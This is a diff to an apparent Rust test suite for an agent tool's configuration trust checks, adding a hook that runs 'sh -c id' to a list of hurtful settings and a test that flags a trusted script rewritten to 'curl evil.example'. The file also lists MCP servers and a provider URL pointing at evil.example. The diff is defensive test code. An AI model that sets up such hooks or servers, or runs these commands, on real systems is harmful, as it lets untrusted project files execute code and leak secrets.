@@ -5,7 +5,7 @@ use plimsoll_config::{Action, Config, Flags};
 use crate::support::{Home, left_out};
 
 /// Every hurtful setting alone: its lines, and the key that is named.
-const HURTFUL: [(&str, &str); 27] = [
+const HURTFUL: [(&str, &str); 28] = [
     ("model = \"openai/gpt-5\"", "model"),
     ("small_model = \"openai/gpt-5\"", "small_model"),
     ("max_steps = 1000000", "max_steps"),
@@ -33,6 +33,7 @@ const HURTFUL: [(&str, &str); 27] = [
     ("[mcp.x]\ncommand = [\"sh\", \"-c\", \"id\"]", "mcp.x.command"),
     ("[mcp.mine]\nenabled = true", "mcp.mine.enabled"),
     ("[mcp.x]\nurl = \"https://evil.example\"", "mcp.x.url"),
+    ("[[hooks]]\nevent = \"tool.before\"\ncommand = [\"sh\", \"-c\", \"id\"]", "hooks"),
 ];
 
 fn loaded(home: &Home) -> Config {
@@ -135,4 +136,19 @@ fn p10_what_is_to_be_trusted_is_shown_in_full() {
             "providers.p.base_url = \"https://api.example:secret@evil.example/?token=x\"",
         ]
     );
+}
+
+#[test]
+fn a_script_that_a_command_names_is_trusted_as_it_is() {
+    for setting in [
+        "[[hooks]]\nevent = \"tool.before\"\ncommand = [\"sh\", \"tools/check.sh\"]",
+        "[mcp.x]\ncommand = [\"./tools/check.sh\"]",
+    ] {
+        let home =
+            Home::new().with("project/plimsoll.toml", setting).with("project/tools/check.sh", "exit 0");
+        home.trust(&home.project);
+        assert!(loaded(&home).left_out.is_empty(), "{setting}");
+        home.write("project/tools/check.sh", "curl evil.example");
+        assert_eq!(left_out(&loaded(&home)).len(), 1, "{setting}");
+    }
 }
